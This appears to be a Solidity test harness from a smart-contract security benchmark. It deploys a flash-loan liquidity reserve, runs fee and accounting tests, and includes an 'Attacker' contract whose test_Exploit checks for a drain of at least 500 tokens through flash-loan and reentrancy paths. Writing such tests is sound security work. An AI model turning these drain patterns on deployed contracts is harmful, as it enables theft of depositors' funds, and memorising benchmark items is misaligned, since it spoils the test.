// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./LiquidityReserve.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-6c859080-2295-45f4-aebd-01ee0cc14d98

interface Vm {
    function prank(address who) external;
    function expectRevert(bytes calldata reason) external;
}

contract Dollar is ERC20 {
    constructor() ERC20("Dollar", "USD") {
        _mint(msg.sender, 1_012e18);
    }
}

contract Pair is IPricePair {
    function getReserves() external view returns (uint112, uint112, uint32) {
        return (1000e18, 500e18, uint32(block.timestamp));
    }
}

/// Borrows and returns all.
contract Borrower is IFlashBorrower {
    Dollar internal asset;

    constructor(Dollar asset_) {
        asset = asset_;
    }

    function borrow(LiquidityReserve reserve, uint256 amount) external {
        reserve.flashLoan(amount, "data");
    }

    function onFlashLoan(uint256, uint256 amountDue, bytes calldata) external {
        asset.transfer(msg.sender, amountDue);
    }
}

contract Attacker is IFlashBorrower {
    LiquidityReserve internal reserve;
    Dollar internal asset;
    address internal other;

    constructor(LiquidityReserve reserve_, Dollar asset_, address other_) {
        (reserve, asset, other) = (reserve_, asset_, other_);
        asset_.approve(address(reserve_), type(uint256).max);
    }

    function onFlashLoan(uint256 amount, uint256 amountDue, bytes calldata data) external {
        uint8 plan = uint8(data[0]);
        if (plan == 1) return;
        if (plan == 2) asset.transfer(address(reserve), amount);
        if (plan == 3) reserve.deposit(amountDue);
        if (plan < 4) return;
        if (plan == 4) try reserve.withdraw(1e18) {} catch {}
        if (plan == 5) try reserve.transferPosition(other, 1e18) {} catch {}
        if (plan == 6) try reserve.flashLoan(1e18, hex"07") {} catch {}
        asset.transfer(address(reserve), amountDue);
    }

    function run() external {
        uint256 all = reserve.totalDeposits();
        try reserve.withdrawFor(other, 1e18) {} catch {}
        try reserve.flashLoan(all + 1, hex"07") {} catch {}
        try reserve.flashLoan(1, hex"02") {} catch {}
        try reserve.flashLoan(0, hex"07") {} catch {}

        reserve.deposit(5e18);
        for (uint8 plan = 4; plan < 8; ++plan) {
            try reserve.flashLoan(reserve.totalDeposits() / 4, abi.encodePacked(plan)) {} catch {}
        }
        try reserve.transferPosition(address(this), 5e18) {} catch {}
        try reserve.transferPosition(address(this), 6e18) {} catch {}
        try reserve.withdraw(6e18) {} catch {}
        try reserve.withdraw(5e18) {} catch {}
        try reserve.withdraw(0) {} catch {}
        try reserve.deposit(5e18) {} catch {}
        try reserve.withdraw(5e18) {} catch {}

        for (uint8 plan = 1; plan < 4; ++plan) {
            try reserve.flashLoan(all, abi.encodePacked(plan)) {} catch {}
        }
        (uint256 mine, ) = reserve.positionOf(address(this));
        try reserve.withdraw(mine) {} catch {}
    }
}

/// Makes another call of the reserve during a loan, and hands on its refusal.
contract Caller is IFlashBorrower {
    function borrow(LiquidityReserve reserve, bytes calldata meanwhile) external {
        reserve.flashLoan(1e18, meanwhile);
    }

    function onFlashLoan(uint256, uint256, bytes calldata meanwhile) external {
        (bool ok, bytes memory out) = msg.sender.call(meanwhile);
        if (!ok) {
            assembly {
                revert(add(out, 32), mload(out))
            }
        }
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);
    Dollar internal asset;
    LiquidityReserve internal reserve;
    Attacker internal mallory;

    function setUp() public {
        asset = new Dollar();
        reserve = new LiquidityReserve(asset, new Pair());
        mallory = new Attacker(reserve, asset, ANA);
        asset.transfer(address(mallory), 10e18);
        _deposit(ANA, 750e18);
        _deposit(BEN, 250e18);
    }

    function _deposit(address who, uint256 amount) private {
        asset.transfer(who, amount);
        vm.prank(who);
        asset.approve(address(reserve), amount);
        vm.prank(who);
        reserve.deposit(amount);
    }

    function _try(bytes memory data) private returns (bool ok) {
        (ok, ) = address(reserve).call(data);
    }

    function test_Regular() public {
        Borrower borrower = new Borrower(asset);
        asset.transfer(address(borrower), 1e18);
        borrower.borrow(reserve, 800e18);
        (uint256 amount, uint256 earned) = reserve.positionOf(ANA);
        require(amount == 750e18 && earned == 0.3e18, "three quarters of the fee");
        require(reserve.quotedValueOf(BEN) == 125e18, "quoted");

        vm.prank(ANA);
        reserve.transferPosition(BEN, 250e18);
        borrower.borrow(reserve, 1000e18);
        (amount, earned) = reserve.positionOf(BEN);
        require(amount == 500e18 && earned == 0.35e18, "transferred positions earn");
        vm.prank(BEN);
        require(!_try(abi.encodeCall(reserve.withdraw, (501e18))), "not that many");
        vm.prank(BEN);
        reserve.withdraw(500e18);
        require(asset.balanceOf(BEN) == 500.35e18, "and what they earned");

        require(!_try(abi.encodeCall(reserve.withdrawFor, (ANA, 1))), "not told to");
        vm.prank(ANA);
        reserve.approveWithdrawal(address(this), 100e18);
        reserve.withdrawFor(ANA, 100e18);
        require(asset.balanceOf(ANA) == 100.55e18 && asset.balanceOf(address(this)) == 1e18, "to the depositor");
        require(!_try(abi.encodeCall(reserve.withdrawFor, (ANA, 1))), "used up");
        (amount, earned) = reserve.positionOf(ANA);
        require(reserve.totalDeposits() == 400e18 && asset.balanceOf(address(reserve)) == 400e18 && earned == 0, "books");
    }

    function _notEnough(uint256 there) private pure returns (bytes memory) {
        return abi.encodeWithSelector(LiquidityReserve.InsufficientFunds.selector, there);
    }

    function test_RefusesMoreThanThereIs() public {
        vm.prank(ANA);
        vm.expectRevert(_notEnough(750e18));
        reserve.transferPosition(BEN, 750e18 + 1);
        vm.prank(BEN);
        vm.expectRevert(_notEnough(250e18));
        reserve.withdraw(250e18 + 1);

        // tokens that are here and in no book
        asset.transfer(address(reserve), 1e18);
        vm.expectRevert(_notEnough(1000e18));
        reserve.flashLoan(1000e18 + 1, "");
        LiquidityReserve empty = new LiquidityReserve(asset, new Pair());
        vm.expectRevert(_notEnough(0));
        empty.flashLoan(0, "");
    }

    function test_RefusesWithdrawalsDuringALoan() public {
        Caller caller = new Caller();
        bytes[4] memory calls = [
            abi.encodeCall(LiquidityReserve.withdraw, (0)),
            abi.encodeCall(LiquidityReserve.withdrawFor, (address(caller), 0)),
            abi.encodeCall(LiquidityReserve.transferPosition, (ANA, 0)),
            abi.encodeCall(FlashLender.flashLoan, (0, ""))
        ];
        for (uint256 i = 0; i < calls.length; i++) {
            vm.expectRevert(abi.encodeWithSelector(FlashLender.LoanOutstanding.selector, address(caller)));
            caller.borrow(reserve, calls[i]);
        }
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        uint256 before = asset.balanceOf(address(mallory));
        exploit();
        require(asset.balanceOf(address(mallory)) - before >= 500e18, "nothing gained");
    }

    function token() public view returns (address) {
        return address(asset);
    }

    function target() public view returns (address) {
        return address(reserve);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
